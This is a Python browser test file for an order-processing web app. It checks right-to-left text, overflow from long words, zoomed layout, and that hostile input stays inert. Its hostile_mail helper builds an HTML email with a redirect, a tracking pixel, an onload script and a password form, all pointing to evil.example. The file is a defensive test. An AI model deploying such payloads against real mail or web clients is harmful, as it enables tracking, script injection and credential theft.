"""Whatever a sender writes is shown as text: from right to left, without an end, or meant to do harm."""

import pytest

from tests.browser.conftest import Sit
from tests.browser.papers import ARABIC, HEBREW, HOSTILE, LONG_WORD, item, order, pdf
from tests.browser.seats import Seat, overflow_of
from tests.browser.workbench import Workbench

pytestmark = pytest.mark.slow

DIRECTION = "one => getComputedStyle(one).direction"
AT_DOUBLE_SIZE = {"width": 683, "height": 384}  # 1366×768 at 200 %


def foreign(bench: Workbench) -> int:
    """An order whose texts run from right to left, or do not end."""
    extraction = order(
        item(1, description=HEBREW),
        item(2, description=LONG_WORD, supplier_material_number=LONG_WORD),
        sender_name=ARABIC,
        receiver_name=LONG_WORD,
        contact_name=f"{HEBREW} (Anna)",
        payment_terms=" ".join([LONG_WORD] * 3),
    )
    return bench.put(f"{ARABIC} {LONG_WORD}.pdf", pdf(["Order"]), extraction)


def open_all(seat: Seat, number: int, bench: Workbench) -> list[str]:
    """The pages that show a document's texts."""
    sha = bench.components.store.document(number).file_sha256
    return ["/", f"/documents/{number}", f"/files/{sha}"]


def test_texts_from_right_to_left_are_shown_so(bench: Workbench, seat: Seat):
    number = foreign(bench)
    seat.page.goto(f"/documents/{number}")
    assert seat.at("field.sender_name").evaluate(DIRECTION) == "rtl"
    assert seat.at("line.0.description").evaluate(DIRECTION) == "rtl"
    assert seat.at("field.document_number").evaluate(DIRECTION) == "ltr"


def test_texts_without_an_end_make_no_page_wider(bench: Workbench, seat: Seat):
    number = foreign(bench)
    for path in open_all(seat, number, bench):
        seat.page.goto(path)
        assert overflow_of(seat.page) <= 0, path


def test_pages_lose_nothing_at_double_size(bench: Workbench, sit: Sit):
    number = foreign(bench)
    seat = sit(viewport=AT_DOUBLE_SIZE, device_scale_factor=2)
    for path in open_all(seat, number, bench):
        seat.page.goto(path)
        assert overflow_of(seat.page) <= 0, path
    seat.page.goto(f"/documents/{number}")
    for name in ("field.document_number", "approve", "save"):
        seat.at(name).scroll_into_view_if_needed()
        assert seat.at(name).is_visible(), name


def test_hostile_texts_do_nothing(bench: Workbench, seat: Seat):
    extraction = order(item(1, description=HOSTILE), sender_name=HOSTILE, document_number=HOSTILE)
    number = bench.put(f"{HOSTILE}.pdf", pdf(["Order"]), extraction)
    for path in open_all(seat, number, bench):
        seat.page.goto(path)
        seat.page.wait_for_load_state("networkidle")
        assert seat.page.title() != "taken", path
        assert seat.page.locator("img[src=x]").count() == 0, path
    seat.page.goto(f"/documents/{number}")
    assert seat.at("field.sender_name").input_value() == HOSTILE


def test_hostile_mails_do_nothing(bench: Workbench, seat: Seat):
    (number,) = bench.read("mail.eml", hostile_mail())
    for path in open_all(seat, number, bench):
        seat.page.goto(path)
        seat.page.wait_for_load_state("networkidle")
        assert seat.page.title() != "taken", path
    assert seat.requested("evil.example") == []


def hostile_mail() -> bytes:
    """An order in HTML that loads pictures, runs scripts, and sends a form elsewhere."""
    rows = "<tr><td>10</td><td>KH-2050</td><td>Ball valve DN 50</td><td>4</td><td>pcs</td></tr>"
    html = (
        "<html><head><meta http-equiv=refresh content='0;url=http://evil.example/'>"
        "<link rel=stylesheet href=http://evil.example/style.css></head>"
        f"<body onload=\"document.title='taken'\"><img src=http://evil.example/pixel.png>{HOSTILE}"
        "<form action=http://evil.example/><input name=password></form><iframe src=http://evil.example/></iframe>"
        f"<p>Purchase order 4500017</p><p>Please deliver:</p><table>{rows}</table></body></html>"
    )
    headers = "From: Hansen <orders@hansen.example>\r\nTo: in@nordwerk.example\r\nSubject: Order <b>4500017</b>\r\n"
    return f"{headers}MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}".encode()
